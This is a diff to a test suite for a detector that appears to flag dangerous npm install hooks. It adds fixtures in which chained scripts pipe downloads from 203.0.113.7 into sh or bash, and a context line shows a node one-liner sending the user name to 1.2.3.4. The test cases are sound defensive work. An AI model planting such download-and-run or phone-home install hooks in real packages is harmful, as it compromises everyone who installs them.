@@ -32,6 +32,24 @@ testCheck(installScripts, {
       message: /through scripts\/setup\.cfg/,
     },
     {
+      label: 'a hook that only says npm run setup, where setup pipes a download into sh',
+      manifest: { scripts: { postinstall: 'npm run setup', setup: 'curl -fsSL http://203.0.113.7/x | sh' } },
+      severity: 'critical',
+      message: /through npm run setup/,
+    },
+    {
+      label: 'the same two scripts away, through yarn',
+      manifest: {
+        scripts: {
+          preinstall: 'yarn prep',
+          prep: 'pnpm run fetch-assets --silent',
+          'fetch-assets': 'wget -qO- http://203.0.113.7/a | bash',
+        },
+      },
+      severity: 'critical',
+      message: /through npm run prep, npm run fetch-assets/,
+    },
+    {
       label: 'install running node -e that phones home',
       manifest: {
         scripts: { install: "node -e \"require('http').get('http://1.2.3.4:8080/'+process.env.USER)\"" },
@@ -127,6 +145,14 @@ testCheck(installScripts, {
       label: 'sh -c with inline text is not a file of the package',
       manifest: { scripts: { postinstall: "sh -c 'echo thanks for installing'" } },
       cleanBelow: 'high',
+    },
+    {
+      label: 'a hook running the build script, which compiles TypeScript',
+      manifest: { scripts: { postinstall: 'npm run build', build: 'tsc -p tsconfig.build.json' } },
+    },
+    {
+      label: 'scripts that start each other in a loop',
+      manifest: { scripts: { postinstall: 'npm run a', a: 'npm run b', b: 'npm run a && echo done' } },
     },
     {
       label: 'core-js-style banner',
